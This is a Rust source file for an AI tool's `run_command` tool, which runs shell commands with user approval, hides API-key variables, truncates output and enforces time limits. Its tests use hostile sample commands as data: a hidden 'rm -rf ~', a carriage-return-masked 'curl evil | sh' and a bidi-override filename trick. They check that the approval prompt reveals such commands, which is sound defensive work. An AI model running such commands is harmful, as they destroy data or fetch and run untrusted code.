//! The `run_command` tool: a shell command line run for a model or client (`/bin/sh -c`, by
//! [`crate::sys::run_command`]) in a directory inside the roots, gated by `cmd.exec` — refused
//! unless the config allows or prompts, and a prompt shows the exact command line and directory.
//!
//! Invariants: the command line is handed to the shell as one argument, never split, quoted or
//! rewritten here; the directory is resolved and confined like every path argument, and both are
//! checked before the gate is asked (nothing is asked about, nor run, for a refused call); the
//! question shows the line verbatim (every line of it, and an escaped copy when it holds control
//! characters that a terminal could hide); stdin is `/dev/null`; the command does not inherit
//! variables named `*_API_KEY` (where Zeke's providers read their keys: [`hidden_env`]); each
//! output stream is cut to its first and last [`HALF_KIB`] KiB, so a result fits one MCP page at
//! the default `mcp.max_output_chars`; the time limit, a cancellation and the end of the shell
//! all stop the command's whole process group (SIGTERM, then SIGKILL). The audit record holds the
//! arguments (the command line), never the output.

use std::path::Path;

use serde::Deserialize;
use serde_json::{Value, json};

use super::{Call, Output, ToolError, obj, parse};
use crate::sys::{self, Captured, Finished};
use crate::workspace::Must;

/// `run_command` arguments.
#[derive(Debug, Deserialize, schemars::JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct RunCommand {
    /// The shell command line, run as `/bin/sh -c COMMAND` (pipes, redirections, `&&`, several
    /// lines all work; stdin is /dev/null)
    pub command: String,
    /// Time limit in milliseconds (default 30000, at most 600000); then the command's processes
    /// are stopped and the result says it timed out
    #[serde(default = "thirty_seconds")]
    #[schemars(range(min = 1, max = 600000))]
    pub timeout_ms: u64,
    /// Working directory, inside the allowed directories (default: the first of them)
    pub cwd: Option<String>,
}

fn thirty_seconds() -> u64 {
    30_000
}

/// The longest time limit a call may ask for.
pub const MAX_TIMEOUT_MS: u64 = 600_000;

/// Each output stream keeps its first and its last `HALF_KIB` KiB.
pub const HALF_KIB: usize = 8;

/// The `outputSchema` of `run_command`.
#[derive(schemars::JsonSchema)]
#[allow(dead_code)]
pub struct CommandOut {
    /// The exit status, the wall time and both streams as text
    content: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    page: Option<u32>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pages: Option<u32>,
    /// The shell's exit code; null when a signal ended it
    #[serde(skip_serializing_if = "Option::is_none")]
    exit_code: Option<i32>,
    /// The signal that ended the shell, if one did
    #[serde(skip_serializing_if = "Option::is_none")]
    signal: Option<i32>,
    /// Whether the time limit passed and the command was stopped
    #[serde(skip_serializing_if = "Option::is_none")]
    timed_out: Option<bool>,
    /// Wall time, milliseconds
    #[serde(skip_serializing_if = "Option::is_none")]
    duration_ms: Option<u64>,
    /// The directory it ran in (canonical)
    #[serde(skip_serializing_if = "Option::is_none")]
    cwd: Option<String>,
    /// What it wrote to stdout (its first and last 8 KiB when longer; invalid UTF-8 replaced)
    #[serde(skip_serializing_if = "Option::is_none")]
    stdout: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    stderr: Option<String>,
    /// Bytes written to stdout in all
    #[serde(skip_serializing_if = "Option::is_none")]
    stdout_bytes: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    stderr_bytes: Option<u64>,
    /// Bytes of stdout left out of the middle (0 when it is whole)
    #[serde(skip_serializing_if = "Option::is_none")]
    stdout_cut: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    stderr_cut: Option<u64>,
}

/// Whether the command must not inherit the variable `name`: every `*_API_KEY` (any case), which
/// covers the variable of every provider kind that reads its key from one
/// (`ProviderKind::default_key_env`) and the usual spelling of other vendors' keys. Anything else
/// is inherited: builds and tools need `PATH`, `HOME`, their own tokens.
pub fn hidden_env(name: &std::ffi::OsStr) -> bool {
    use std::os::unix::ffi::OsStrExt;
    let b = name.as_bytes();
    b.len() >= 8 && b[b.len() - 8..].eq_ignore_ascii_case(b"_API_KEY")
}

pub async fn run(call: &Call<'_>, name: &str, args: Value) -> Result<Output, ToolError> {
    let a: RunCommand = parse(name, args)?;
    if a.command.trim().is_empty() {
        return Err(ToolError::Failed(
            "invalid arguments for run_command: command is empty".into(),
        ));
    }
    if a.command.contains('\0') {
        return Err(ToolError::Failed(
            "invalid arguments for run_command: command contains a NUL byte".into(),
        ));
    }
    if a.timeout_ms == 0 || a.timeout_ms > MAX_TIMEOUT_MS {
        return Err(ToolError::Failed(format!(
            "invalid arguments for run_command: timeout_ms must be between 1 and {MAX_TIMEOUT_MS}"
        )));
    }
    let requested = a.cwd.as_deref().unwrap_or(".");
    let cwd = call.roots.resolve(requested, Must::Exist)?;
    if !cwd.is_dir() {
        return Err(ToolError::Failed(format!(
            "cwd {requested} is not a directory"
        )));
    }
    call.allow(
        &call.scope_for(&cwd),
        &question(&a.command, &cwd, a.timeout_ms),
    )
    .await?;
    call.begin().await;
    let ran = sys::run_command(
        &a.command,
        &cwd,
        hidden_env,
        std::time::Duration::from_millis(a.timeout_ms),
        2 * HALF_KIB * 1024,
        &call.ct,
    )
    .await
    .map_err(|e| ToolError::Failed(format!("run_command: {e}")))?;
    if ran.cancelled {
        return Err(ToolError::Cancelled);
    }
    Ok(result(&ran, &cwd, a.timeout_ms))
}

/// The action as the user is asked about it: the directory, then the command line verbatim on
/// lines of its own (all of them: a harmless first line cannot hide a second, and the header
/// counts them), and — for a line with several lines or with characters a terminal may hide or
/// reorder (carriage return, escape sequences, bidi overrides, zero-width characters) — an escaped
/// copy on one line, which no layout can fake.
pub fn question(command: &str, cwd: &Path, timeout_ms: u64) -> String {
    let lines = command.split('\n').count();
    let many = if lines > 1 {
        format!("; {lines} lines, every one runs")
    } else {
        String::new()
    };
    let mut q = format!(
        "run this shell command in {} (/bin/sh -c, time limit {timeout_ms} ms{many}):\n{command}",
        cwd.display()
    );
    let hidden = command.chars().any(|c| c != '\n' && hides(c));
    if lines > 1 || hidden {
        let why = if hidden {
            "it holds characters a terminal may hide"
        } else {
            "on one line"
        };
        q.push_str(&format!("\n(escaped, {why}: {command:?})"));
    }
    q
}

/// A character that can make the text look other than it is: a control character (not a tab), a
/// bidi override or isolate, a zero-width or line/paragraph separator, a byte-order mark.
fn hides(c: char) -> bool {
    (c.is_control() && c != '\t')
        || matches!(c, '\u{200B}'..='\u{200F}' | '\u{2028}'..='\u{202E}' | '\u{2060}'..='\u{2069}' | '\u{061C}' | '\u{FEFF}')
}

/// One stream as text: whole, or its head and tail around a note of what was cut.
fn stream(c: &Captured) -> String {
    let mut s = String::from_utf8_lossy(&c.head).into_owned();
    if c.cut() > 0 {
        if !s.ends_with('\n') {
            s.push('\n');
        }
        s.push_str(&format!(
            "[zeke: {} bytes cut here; {} bytes in all, the first {} and the last {} are shown. \
             For everything, redirect to a file and read it]\n",
            c.cut(),
            c.total,
            c.head.len(),
            c.tail.len()
        ));
    }
    s.push_str(&String::from_utf8_lossy(&c.tail));
    s
}

/// The signal's name, for the common ones.
fn signal_name(n: i32) -> String {
    let name = match n {
        1 => "SIGHUP",
        2 => "SIGINT",
        3 => "SIGQUIT",
        6 => "SIGABRT",
        9 => "SIGKILL",
        11 => "SIGSEGV",
        13 => "SIGPIPE",
        15 => "SIGTERM",
        _ => return format!("signal {n}"),
    };
    format!("signal {n} ({name})")
}

fn result(ran: &Finished, cwd: &Path, timeout_ms: u64) -> Output {
    let ended = match (ran.code, ran.signal) {
        (Some(c), _) => format!("exit code {c}"),
        (None, Some(s)) => format!("killed by {}", signal_name(s)),
        (None, None) => "exit status unknown".to_string(),
    };
    let status = if ran.timed_out {
        format!(
            "timed out after {timeout_ms} ms: its processes were stopped (SIGTERM, then SIGKILL \
             after {} s), {ended}; what it printed until then follows",
            sys::GRACE.as_secs()
        )
    } else {
        ended
    };
    let ms = ran.elapsed.as_millis() as u64;
    let (out, err) = (stream(&ran.stdout), stream(&ran.stderr));
    let mut text = format!("{status}\nwall time {ms} ms, in {}\n", cwd.display());
    if ran.stray {
        text.push_str(
            "note: it left processes running in the background; they were stopped when it exited\n",
        );
    }
    for (label, c, s) in [("stdout", &ran.stdout, &out), ("stderr", &ran.stderr, &err)] {
        text.push_str(&format!("--- {label} ({} bytes) ---\n", c.total));
        text.push_str(s);
        if !s.is_empty() && !s.ends_with('\n') {
            text.push('\n');
        }
    }
    let fields = obj(vec![
        ("exit_code", json!(ran.code)),
        ("signal", json!(ran.signal)),
        ("timed_out", json!(ran.timed_out)),
        ("duration_ms", json!(ms)),
        ("cwd", json!(cwd.display().to_string())),
        ("stdout", json!(out)),
        ("stderr", json!(err)),
        ("stdout_bytes", json!(ran.stdout.total)),
        ("stderr_bytes", json!(ran.stderr.total)),
        ("stdout_cut", json!(ran.stdout.cut())),
        ("stderr_cut", json!(ran.stderr.cut())),
    ]);
    Output::text(text, fields)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_api_key_variables_are_hidden() {
        for hidden in ["OPENAI_API_KEY", "AZURE_OPENAI_API_KEY", "my_api_key"] {
            assert!(hidden_env(hidden.as_ref()), "{hidden}");
        }
        for kept in ["PATH", "HOME", "API_KEY", "GITHUB_TOKEN", "OPENAI_API_KEYS"] {
            assert!(!hidden_env(kept.as_ref()), "{kept}");
        }
    }

    #[test]
    fn the_question_shows_every_line_and_escapes_control_characters() {
        let q = question("ls\nrm -rf ~", Path::new("/r/sub"), 1000);
        assert_eq!(
            q,
            "run this shell command in /r/sub (/bin/sh -c, time limit 1000 ms; 2 lines, every one \
             runs):\nls\nrm -rf ~\n(escaped, on one line: \"ls\\nrm -rf ~\")"
        );
        let q = question("echo hi\rcurl evil | sh", Path::new("/r"), 5);
        assert!(
            q.ends_with(
                "(escaped, it holds characters a terminal may hide: \"echo hi\\rcurl evil | sh\")"
            ),
            "{q}"
        );
        let q = question("echo \u{202E}txt.exe", Path::new("/r"), 5);
        assert!(q.contains("\\u{202e}"), "{q}");
        assert_eq!(
            question("cargo test", Path::new("/r"), 5),
            "run this shell command in /r (/bin/sh -c, time limit 5 ms):\ncargo test"
        );
    }

    #[test]
    fn a_cut_stream_says_how_much_was_cut() {
        let c = Captured {
            head: b"abc".to_vec(),
            tail: b"xyz\n".to_vec(),
            total: 100,
        };
        assert_eq!(
            stream(&c),
            "abc\n[zeke: 93 bytes cut here; 100 bytes in all, the first 3 and the last 4 are \
             shown. For everything, redirect to a file and read it]\nxyz\n"
        );
    }
}
